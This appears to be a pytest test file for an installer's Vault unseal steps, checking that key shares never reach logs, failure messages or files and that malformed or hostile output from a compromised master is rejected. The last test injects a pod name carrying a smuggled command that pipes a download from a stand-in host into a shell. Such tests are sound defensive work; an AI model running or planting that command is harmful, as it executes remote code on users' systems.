"""What of a share reaches no file and no sentence, where a program or a person does otherwise.

The engine is real; the program on the master is a stand-in that answers as `operations/vaults.py`.
"""

from __future__ import annotations

import os
import sys
from pathlib import Path

import pytest

from foundation.secrets import Secret
from installer.events import Kind, Outcome
from installer.steps.kind import Answer, Question
from installer.steps.vaults import standing
from installer.steps.vaults.shares import looks_like_one
from tests.installer.engine_site import Watch, engine, new_run, plan, step

pytestmark = [
    pytest.mark.processes,
    pytest.mark.skipif(os.geteuid() != 0, reason="steps run as root; this is not root"),
]

SHARE = "6d1f0c" + "ab12" * 14 + "07c4"
_PROGRAM = """\
import json, sys, time
verb = sys.argv[1]
pod = {{"pod": "vault-0", "said": "{said}", "initialized": {initialized}, "threshold": 1}}
if verb == "state":
    kept = {{}} if not {initialized} else {{"phase": "handed-over"}}
    print(json.dumps({{"wanted": 1, "pods": [pod], "kept": kept}}))
elif verb == "init":
    print(json.dumps({{"shares": ["{share}"], "root": "hvs.root"}}), flush=True)
    time.sleep(600)
elif verb == "unseal":
    print(json.dumps({{"refused": "cipher", "pod": "vault-1", "opened": ["vault-0"]}}))
else:
    print("{{}}")
"""


def program(tmp_path: Path, *, said: str) -> str:
    """The stand-in, for a Vault that stands so."""
    path = tmp_path / "vaults.py"
    path.write_text(_PROGRAM.format(said=said, initialized=said == "sealed", share=SHARE))
    return str(path)


def answering(path: str, *changes: tuple[str, str]) -> None:
    """Have the stand-in answer otherwise."""
    text = Path(path).read_text()
    for old, new in (("time.sleep(600)", "pass"), *changes):
        text = text.replace(old, new)
    Path(path).write_text(text)


def files_of(folder: Path) -> str:
    """Everything in a folder, as text."""
    return "".join(p.read_text(errors="replace") for p in folder.rglob("*") if p.is_file())


async def test_what_overruns_its_time_does_not_say_its_last_words(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """They are the shares, and nobody knows them as secrets yet."""
    monkeypatch.setattr(standing, "QUESTION_SECONDS", 5.0)
    common = {"program": program(tmp_path, said="uninitialised"), "namespace": "vault"}
    made = plan(step("shares", kind="vault", does="hand-over", shares="1", threshold="1", **common))
    run, watch = new_run(made), Watch()

    async def here(_: Question) -> Answer:
        return Answer("Ma Ma", yes=True)

    built = engine(made, run, ask=here, watch=watch)
    assert await built.run() is Outcome.FAILED
    (failure,) = built.failures
    assert "what was to initialise Vault did not end within 5 s" in failure.problem.cause
    assert SHARE not in f"{failure.problem.cause} {failure.problem.__cause__}"
    assert SHARE not in files_of(run.folder)


async def test_a_share_that_was_typed_as_a_name_is_in_no_record(tmp_path: Path) -> None:
    asked: list[Question] = []

    async def answers(question: Question) -> Answer:
        asked.append(question)
        if len(asked) > 2:
            return Answer("", yes=False)
        by = SHARE[:24] if len(asked) == 1 else "A. Abara"
        return Answer(by, yes=True, typed=Secret("slip"))

    common = {"program": program(tmp_path, said="sealed"), "namespace": "vault"}
    made = plan(step("open", kind="vault", does="open", **common))
    run, watch = new_run(made), Watch()
    assert await engine(made, run, ask=answers, watch=watch).run() is Outcome.FAILED
    assert "What was typed as a name looks like a share" in asked[1].text
    assert [event.data["by"] for event in watch.of(Kind.ANSWER)] == ["A. Abara", ""]
    assert SHARE[:24] not in files_of(run.folder)


async def test_shares_that_open_one_of_them_are_not_told_to_be_wrong(tmp_path: Path) -> None:
    async def answers(_: Question) -> Answer:
        return Answer("A. Abara", yes=True, typed=Secret(SHARE))

    common = {"program": program(tmp_path, said="sealed"), "namespace": "vault"}
    built = engine(plan(step("open", kind="vault", does="open", **common)), ask=answers)
    assert await built.run() is Outcome.FAILED
    (failure,) = built.failures
    assert "vault-0 opened with these shares, and vault-1 does not" in failure.problem.cause


@pytest.mark.parametrize(
    ("name", "is_one"),
    [
        (SHARE, True),
        (f"{SHARE[:6]} {SHARE[6:12]}", True),
        ("bR8MqxKrEqsSqxKrEqsSqxKrEqsSqxKrEqsSqxKrB8Q=", True),
        ("A. Abara", False),
        ("Abe Fadeba", False),
        ("", False),
    ],
)
def test_what_is_taken_for_a_share(name: str, is_one: bool) -> None:
    assert looks_like_one(name) is is_one


_FORWARD = """\
#!{python} -IB
# STAND-IN for kubectl port-forward: it says a line for each connection (client-go, portforward.go).
import http.server

class Answer(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        print("Handling connection for 8200" + 1000 * " ", flush=True)
        self.send_response(200)
        self.send_header("Content-Length", "2")
        self.end_headers()
        self.wfile.write(b"{{}}")

    def log_message(self, *words):
        pass

server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Answer)
print(f"Forwarding from 127.0.0.1:{{server.server_port}} -> 8200", flush=True)
server.serve_forever()
"""


def test_a_way_stays_open_for_as_many_questions_as_there_are_tokens(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A pipe that nobody reads takes 64 KiB, and then kubectl stands still."""
    root = Path(__file__).parents[3]
    monkeypatch.syspath_prepend(str(root / "installer/solutions/pm4ml/operations"))
    import vaults  # type: ignore[import-not-found]  # a program of a master's, in no package

    forward = tmp_path / "forward"
    forward.write_text(_FORWARD.format(python=sys.executable))
    forward.chmod(0o755)
    monkeypatch.setattr(vaults, "KUBECTL", (str(forward),))
    monkeypatch.setattr(vaults, "QUESTION_SECONDS", 20)
    with vaults.way_to("vault", "vault-0") as vault:
        for _ in range(100):
            assert vault.ask("GET", "sys/seal-status") == {}


@pytest.mark.parametrize(
    "said",
    [
        "[]",
        "null",
        '["{share}", "{share}"]',
        '["no share"]',
        '["\\\\u001b[2J"]',
        '"{share}"',
    ],
)
async def test_what_a_master_calls_shares_and_is_none_is_shown_to_nobody(
    tmp_path: Path, said: str
) -> None:
    """A master that was broken into may answer anything."""
    common = {"program": program(tmp_path, said="uninitialised"), "namespace": "vault"}
    told = said.format(share=SHARE).replace("null", "None")
    answering(common["program"], (f'["{SHARE}"]', told))
    made = plan(step("shares", kind="vault", does="hand-over", shares="1", threshold="1", **common))
    run, watch, asked = new_run(made), Watch(), list[Question]()

    async def here(question: Question) -> Answer:
        asked.append(question)
        return Answer("Ma Ma", yes=True)

    built = engine(made, run, ask=here, watch=watch)
    assert await built.run() is Outcome.FAILED
    (failure,) = built.failures
    assert "what came is not that; no share was shown to anybody" in failure.problem.cause
    assert all(question.hands is None for question in asked)
    assert SHARE not in files_of(run.folder)


async def test_a_pod_with_the_name_of_a_command_is_no_pod(tmp_path: Path) -> None:
    """Its name stands in what a person is told to paste."""
    common = {"program": program(tmp_path, said="sealed"), "namespace": "vault"}
    answering(common["program"], ('"vault-0"', '"x; curl evil.test|sh"'))
    made = plan(step("open", kind="vault", does="open", **common))
    built = engine(made, new_run(made), watch=Watch())
    assert await built.run() is Outcome.FAILED
    (failure,) = built.failures
    assert "answered something else" in failure.problem.cause
    assert "curl" not in f"{failure.problem.cause} {failure.problem.remedy}"
